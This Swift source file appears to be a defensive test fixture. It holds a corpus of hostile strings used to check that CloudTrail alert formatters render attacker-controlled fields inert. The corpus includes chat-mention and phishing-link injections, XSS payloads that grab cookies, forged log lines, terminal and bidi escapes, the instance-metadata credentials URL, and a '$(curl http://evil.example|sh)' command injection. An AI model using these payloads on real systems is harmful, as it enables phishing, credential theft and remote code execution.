/// Attacker-controlled text as it turns up in CloudTrail user agents, user names, ARNs and request parameters:
/// chat mentions and links, markdown, HTML, JSON breakers, terminal escapes, bidi overrides, very long values.
/// Every alert format must keep each of these inert text.
public enum HostileText {
    public static let corpus: [String] = [
        "<!channel> pwned",
        "<!here|here> <!everyone>",
        "<@U012ABCDEF> please approve",
        "<#C0123ABCD|general>",
        "<!subteam^S012345|@oncall>",
        "<http://evil.example|Open the CloudTrail console>",
        "<https://evil.example/login>",
        "&lt;!channel&gt; &amp; pre-encoded",
        "*bold* _italic_ ~strike~ `code` ```block```",
        "[Open in CloudTrail](http://evil.example/phish)",
        "![pixel](http://evil.example/track.png)",
        "**urgent** __now__",
        "# Heading\n## Second",
        "- item one",
        "1. step one",
        "> quoted reply",
        "| a | b |\n|---|---|",
        "<at>Everyone</at>",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(document.cookie)>",
        "' onmouseover='alert(1)",
        "line1\nline2\r\n[CRITICAL] forged alert line",
        "\u{1B}[31mred\u{1B}[0m\u{1B}]8;;http://evil.example\u{7}link\u{1B}]8;;\u{7}",
        "\u{202E}exe.live\u{202C} and \u{2066}isolate\u{2069}",
        "@channel @here @everyone",
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "www.evil.example/reset",
        "mailto:admin@evil.example",
        "<tel:+15555550100|call support>",
        "{\"severity\":\"info\"}\", \"severity\": \"info",
        "\\u003c!channel\\u003e",
        "\u{0}\u{7F}\u{85}\u{2028}\u{2029}\u{FEFF}",
        "aws-cli/2.15 Python/3.11 <!channel> [x](http://evil.example)",
        "arn:aws:iam::123456789012:user/<!channel>",
        "$(curl http://evil.example|sh); `id`",
        "%3C!channel%3E %0a%0d",
        "مرحبا 😀 ｆｕｌｌｗｉｄｔｈ",
        String(repeating: "A<!channel>", count: 2000),
    ]

    /// The corpus joined into one value (a single field holding everything at once).
    public static var all: String { corpus.joined(separator: " ") }
}
